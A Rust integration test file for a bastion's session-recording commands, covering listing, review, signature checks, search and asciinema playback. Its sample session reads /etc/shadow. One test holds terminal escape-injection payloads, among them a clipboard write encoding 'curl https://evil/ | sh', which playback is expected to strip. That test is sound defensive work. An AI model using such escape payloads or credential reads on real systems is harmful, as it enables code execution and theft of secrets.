//! `gatehouse recordings ...` end to end: recordings made through the
//! library, then listed, searched, verified, reviewed and played by the
//! real binary, and checked playable by asciinema itself.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::Arc;
use std::time::Duration;

use bytes::Bytes;
use gatehouse::recording::{Kind, Recorder, RecorderOptions, RecordingMeta, Signer};
use serde_json::Value;
use time::macros::datetime;

struct Env {
    dir: tempfile::TempDir,
    config: PathBuf,
    signer: Arc<Signer>,
}

impl Env {
    fn new() -> Env {
        let dir = tempfile::tempdir().unwrap();
        let config = dir.path().join("gatehouse.toml");
        std::fs::write(
            &config,
            "[server]\nrecordings = \"recs\"\nsigning_key = \"keys/signing_ed25519.pk8\"\n\
             policies = \"policies\"\ndatabase = \"sqlite://data/g.db\"\n",
        )
        .unwrap();
        // Reviewers are policy users with the auditor role.
        std::fs::create_dir_all(dir.path().join("policies")).unwrap();
        std::fs::write(
            dir.path().join("policies/staff.toml"),
            "[[user]]\nname = \"carol\"\nroles = [\"auditor\"]\nkeys = [\"ssh-ed25519 \
             AAAAC3NzaC1lZDI1NTE5AAAAIDzXhOm/CKaSOWAp/1cSJfYiJiaPNkrM2OFPyrc4A1yR carol\"]\n\
             [[user]]\nname = \"dave\"\nkeys = [\"ssh-ed25519 \
             AAAAC3NzaC1lZDI1NTE5AAAAIHjOZyM6GB2D9P69i7SbNU2u6oAidpC5wDIB1O6Afy/E dave\"]\n",
        )
        .unwrap();
        let signer =
            Arc::new(Signer::load_or_create(&dir.path().join("keys/signing_ed25519.pk8")).unwrap());
        Env {
            dir,
            config,
            signer,
        }
    }

    fn root(&self) -> PathBuf {
        self.dir.path().join("recs")
    }

    fn run(&self, args: &[&str]) -> Output {
        Command::new(env!("CARGO_BIN_EXE_gatehouse"))
            .arg("--config")
            .arg(&self.config)
            .arg("recordings")
            .args(args)
            .current_dir(self.dir.path())
            .output()
            .unwrap()
    }

    fn json(&self, args: &[&str]) -> Value {
        let out = self.run(args);
        assert!(out.status.success(), "{args:?}: {}", text(&out.stderr));
        serde_json::from_slice(&out.stdout).unwrap()
    }

    async fn start(
        &self,
        id: &str,
        user: &str,
        kind: Kind,
        term: Option<&str>,
        command: Option<&str>,
    ) -> Recorder {
        let meta = RecordingMeta {
            id: id.into(),
            session: id.into(),
            user: user.into(),
            server: "prod-db".into(),
            account: "root".into(),
            source: "127.0.0.1:40000".into(),
            grant: None,
            kind,
            command: command.map(Into::into),
            term: term.map(Into::into),
            width: 80,
            height: 24,
            started_at: datetime!(2026-05-06 10:00 UTC),
        };
        Recorder::start(
            &self.root(),
            meta,
            self.signer.clone(),
            RecorderOptions {
                record_input: true,
                text_cap: 4096,
            },
        )
        .await
        .unwrap()
    }
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

/// asciinema 2.x must be installed (CI installs it: `pip install asciinema==2.4.0`).
fn asciinema() -> Command {
    let ok = Command::new("asciinema")
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success());
    assert!(
        ok,
        "asciinema is not installed: this test checks casts play in the real player; \
         install it with `pip install asciinema==2.4.0`"
    );
    Command::new("asciinema")
}

fn asciinema_cat(cast: &Path) -> String {
    let out = asciinema().arg("cat").arg(cast).output().unwrap();
    assert!(
        out.status.success(),
        "asciinema cat rejected {}: {}",
        cast.display(),
        text(&out.stderr)
    );
    text(&out.stdout)
}

async fn make_two(env: &Env) -> (PathBuf, PathBuf) {
    let shell = env
        .start("sess-1", "alice", Kind::Shell, Some("xterm-256color"), None)
        .await;
    shell
        .output(Bytes::copy_from_slice(b"root@prod-db:~# "))
        .await
        .unwrap();
    shell
        .input(Bytes::copy_from_slice(b"cat /etc/shadow\r"))
        .await
        .unwrap();
    shell
        .output(Bytes::copy_from_slice(b"cat /etc/\xc3"))
        .await
        .unwrap();
    shell
        .output(Bytes::copy_from_slice(b"\xa9shadow\r\n"))
        .await
        .unwrap();
    shell.resize(100, 30).await.unwrap();
    shell
        .output(Bytes::copy_from_slice(
            b"\x1b[1mTOP-SECRET\x1b[0m value\r\n",
        ))
        .await
        .unwrap();
    let s1 = shell.finish(Some(0), None).await.unwrap();

    let exec = env
        .start(
            "sess-2",
            "bob",
            Kind::Exec,
            None,
            Some("grep -r needle /srv"),
        )
        .await;
    exec.output(Bytes::copy_from_slice(b"/srv/a: needle here\n"))
        .await
        .unwrap();
    exec.input(Bytes::copy_from_slice(b"ignored stdin"))
        .await
        .unwrap();
    let s2 = exec.finish(Some(1), None).await.unwrap();
    (s1.cast_path, s2.cast_path)
}

#[tokio::test]
async fn list_filters_and_shows_review_state() {
    let env = Env::new();
    make_two(&env).await;

    let out = env.run(&["list"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let listing = text(&out.stdout);
    assert!(
        listing.contains("sess-1") && listing.contains("sess-2"),
        "{listing}"
    );
    assert!(listing.contains("unreviewed"), "{listing}");

    let all = env.json(&["list", "--json"]);
    let all = all.as_array().unwrap();
    assert_eq!(all.len(), 2);
    assert_eq!(all[0]["id"], "sess-1");
    assert_eq!(all[0]["user"], "alice");
    assert_eq!(all[0]["date"], "2026-05-06");
    assert_eq!(all[0]["kind"], "shell");
    assert_eq!(all[1]["command"], "grep -r needle /srv");
    assert_eq!(all[1]["exit_status"], 1);
    assert_eq!(all[0]["state"], "unreviewed");

    let bob = env.json(&["list", "--user", "bob", "--json"]);
    assert_eq!(bob.as_array().unwrap().len(), 1);
    assert_eq!(bob[0]["id"], "sess-2");
    let none = env.json(&["list", "--date", "2026-05-07", "--json"]);
    assert!(none.as_array().unwrap().is_empty());
    let day = env.json(&[
        "list",
        "--date",
        "2026-05-06",
        "--server",
        "prod-db",
        "--json",
    ]);
    assert_eq!(day.as_array().unwrap().len(), 2);

    // Review: a flag, then the state shows in list and filters.
    let out = env.run(&[
        "review",
        "sess-1",
        "--by",
        "carol",
        "--note",
        "shadow read",
        "--flag",
    ]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(text(&out.stdout).contains("flagged"));
    let flagged = env.json(&["list", "--state", "flagged", "--json"]);
    assert_eq!(flagged.as_array().unwrap().len(), 1);
    assert_eq!(flagged[0]["id"], "sess-1");
    assert_eq!(flagged[0]["reviews"][0]["by"], "carol");
    assert_eq!(flagged[0]["reviews"][0]["note"], "shadow read");
    let out = env.run(&["review", "sess-2", "--by", "carol"]);
    assert!(out.status.success());
    let reviewed = env.json(&["list", "--state", "reviewed", "--json"]);
    assert_eq!(reviewed[0]["id"], "sess-2");
    let unreviewed = env.json(&["list", "--state", "unreviewed", "--json"]);
    assert!(unreviewed.as_array().unwrap().is_empty());
    assert!(env.root().join("2026-05-06/sess-1.review.json").exists());

    // Bad usage is exit 2; an unknown recording exit 1 with one error line.
    assert_eq!(
        env.run(&["list", "--date", "yesterday"]).status.code(),
        Some(2)
    );
    assert_eq!(env.run(&["list", "--state", "odd"]).status.code(), Some(2));
    // Only auditors review, and each review is an audit event.
    let out = env.run(&["review", "sess-1", "--by", "dave"]);
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    assert!(String::from_utf8_lossy(&out.stderr).contains("needs role auditor"));
    let audit = Command::new(env!("CARGO_BIN_EXE_gatehouse"))
        .arg("--config")
        .arg(&env.config)
        .args(["audit", "export"])
        .output()
        .unwrap();
    let audit = String::from_utf8_lossy(&audit.stdout);
    assert_eq!(
        audit.matches("\"recording.reviewed\"").count(),
        2,
        "{audit}"
    );
    let out = env.run(&["review", "nope", "--by", "carol"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        text(&out.stderr).starts_with("error: "),
        "{}",
        text(&out.stderr)
    );
}

#[tokio::test]
async fn verify_names_what_fails() {
    let env = Env::new();
    let (cast1, _) = make_two(&env).await;

    let out = env.run(&["verify"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stdout));
    let stdout = text(&out.stdout);
    assert!(
        stdout.contains("OK sess-1") && stdout.contains("OK sess-2"),
        "{stdout}"
    );
    // With the public key alone (no private key), recordings still verify.
    std::fs::rename(
        env.dir.path().join("keys/signing_ed25519.pk8"),
        env.dir.path().join("private-elsewhere.pk8"),
    )
    .unwrap();
    assert_eq!(env.run(&["verify", "sess-1"]).status.code(), Some(0));

    // One byte of the cast changed.
    let mut bytes = std::fs::read(&cast1).unwrap();
    let pos = bytes.windows(10).position(|w| w == b"TOP-SECRET").unwrap();
    bytes[pos] = b'X';
    std::fs::write(&cast1, &bytes).unwrap();
    let out = env.run(&["verify"]);
    assert_eq!(out.status.code(), Some(1));
    let stdout = text(&out.stdout);
    assert!(stdout.contains("FAILED sess-1: hash mismatch"), "{stdout}");
    assert!(stdout.contains("OK sess-2"), "{stdout}");
    assert!(
        text(&out.stderr).starts_with("error: 1 of 2"),
        "{}",
        text(&out.stderr)
    );

    let report = env.run(&["verify", "--json"]);
    assert_eq!(report.status.code(), Some(1));
    let report: Value = serde_json::from_slice(&report.stdout).unwrap();
    assert_eq!(report[0]["ok"], false);
    assert_eq!(report[0]["problems"][0]["problem"], "hash_mismatch");
    assert_eq!(report[1]["ok"], true);

    // A missing sidecar and an unfinished recording.
    std::fs::remove_file(env.root().join("2026-05-06/sess-2.json")).unwrap();
    let live = env
        .start("sess-3", "alice", Kind::Shell, Some("xterm"), None)
        .await;
    let out = env.run(&["verify"]);
    let stdout = text(&out.stdout);
    assert!(
        stdout.contains("FAILED sess-2: missing sidecar"),
        "{stdout}"
    );
    assert!(stdout.contains("FAILED sess-3: incomplete"), "{stdout}");
    live.finish(None, None).await.unwrap();
    assert_eq!(env.run(&["verify", "sess-3"]).status.code(), Some(0));
}

#[tokio::test]
async fn search_finds_screen_text_typed_text_and_commands() {
    let env = Env::new();
    make_two(&env).await;

    let hits = env.json(&["search", "top-secret", "--json"]);
    let hits = hits.as_array().unwrap();
    assert_eq!(hits.len(), 1, "{hits:?}");
    assert_eq!(hits[0]["id"], "sess-1");
    assert_eq!(hits[0]["source"], "screen");
    assert_eq!(hits[0]["text"], "TOP-SECRET value");
    assert!(
        hits[0]["at"]
            .as_str()
            .unwrap()
            .starts_with("2026-05-06T10:00:")
    );

    // The split UTF-8 sequence was rejoined, so the word is on screen.
    let hits = env.json(&["search", "/etc/\u{e9}shadow", "--json"]);
    assert_eq!(hits[0]["id"], "sess-1");

    let typed = env.json(&["search", "cat /etc/shadow", "--json"]);
    let sources: Vec<&str> = typed
        .as_array()
        .unwrap()
        .iter()
        .map(|h| h["source"].as_str().unwrap())
        .collect();
    assert_eq!(sources, ["input"], "{typed}");

    let needle = env.json(&["search", "needle", "--json"]);
    let found: Vec<(&str, &str)> = needle
        .as_array()
        .unwrap()
        .iter()
        .map(|h| (h["id"].as_str().unwrap(), h["source"].as_str().unwrap()))
        .collect();
    assert_eq!(found, [("sess-2", "command"), ("sess-2", "screen")]);

    let out = env.run(&["search", "nothing-like-this"]);
    assert!(out.status.success());
    assert!(text(&out.stdout).contains("no matches"));
    assert_eq!(env.run(&["search", ""]).status.code(), Some(2));
}

#[tokio::test]
async fn casts_play_in_asciinema_and_gatehouse() {
    let env = Env::new();
    let (cast1, cast2) = make_two(&env).await;

    let shown = asciinema_cat(&cast1);
    assert!(shown.contains("TOP-SECRET"), "{shown}");
    assert!(shown.contains("/etc/\u{e9}shadow"), "{shown}");
    let shown = asciinema_cat(&cast2);
    assert!(shown.contains("needle here"), "{shown}");

    let out = asciinema()
        .args(["play", "-s", "100"])
        .arg(&cast1)
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "asciinema play: {}",
        text(&out.stderr)
    );
    assert!(text(&out.stdout).contains("TOP-SECRET"));

    let out = env.run(&["play", "sess-1", "--speed", "100"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(text(&out.stdout).contains("\x1b[1mTOP-SECRET"));
    assert_eq!(
        env.run(&["play", "sess-1", "--speed", "0"]).status.code(),
        Some(2)
    );
}

#[tokio::test]
async fn a_session_still_running_is_already_playable() {
    let env = Env::new();
    let rec = env
        .start("live-1", "alice", Kind::Shell, Some("xterm"), None)
        .await;
    rec.output(Bytes::from_static(b"halfway there\r\n"))
        .await
        .unwrap();
    let cast = rec.cast_path().to_path_buf();
    let mut landed = false;
    for _ in 0..50 {
        if std::fs::read_to_string(&cast).is_ok_and(|t| t.contains("halfway")) {
            landed = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert!(landed, "output never reached the cast file");
    // As if the bastion had been killed now: the file plays as it is.
    assert!(asciinema_cat(&cast).contains("halfway there"));
    let out = env.run(&["play", "live-1", "--speed", "100"]);
    assert!(text(&out.stdout).contains("halfway there"));
    rec.finish(Some(0), None).await.unwrap();
}

/// Issue 17 item 7: what a target wrote must not attack the auditor who
/// replays it. A cast holding OSC 52 (clipboard), OSC 8, a title and
/// device queries, split across events, plays to a pipe without any of
/// them, colours and cursor movement kept.
#[tokio::test]
async fn play_neutralises_the_targets_escapes() {
    let env = Env::new();
    let shell = env
        .start("sess-osc", "mallory", Kind::Shell, Some("xterm"), None)
        .await;
    for chunk in [
        &b"\x1b[1;31mred\x1b[0m \x1b[5;1Hmoved\x1b[2K"[..],
        b"\x1b]52;c;Y3VybCBodHRwczovL2V2aWwvIHwgc2g=\x07",
        // A clipboard write cut between two events.
        b"\x1b]5",
        b"2;c;eA==\x1b\\",
        b"\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\",
        b"\x1b]0;owned\x07\x1b[c\x1b[6n\x1bP$qm\x1b\\\x1b[21t done\r\n",
    ] {
        shell.output(Bytes::copy_from_slice(chunk)).await.unwrap();
    }
    shell.finish(Some(0), None).await.unwrap();
    let out = env.run(&["play", "sess-osc", "--idle-limit", "0"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let shown = out.stdout.escape_ascii().to_string();
    assert_eq!(
        shown,
        "\\x1b[1;31mred\\x1b[0m \\x1b[5;1Hmoved\\x1b[2Klink done\\r\\n"
    );
    for bad in ["\\x1b]", "\\x1bP", "\\x1b[c", "\\x1b[6n", "\\x1b[21t"] {
        assert!(!shown.contains(bad), "{bad} reached the terminal: {shown}");
    }
}
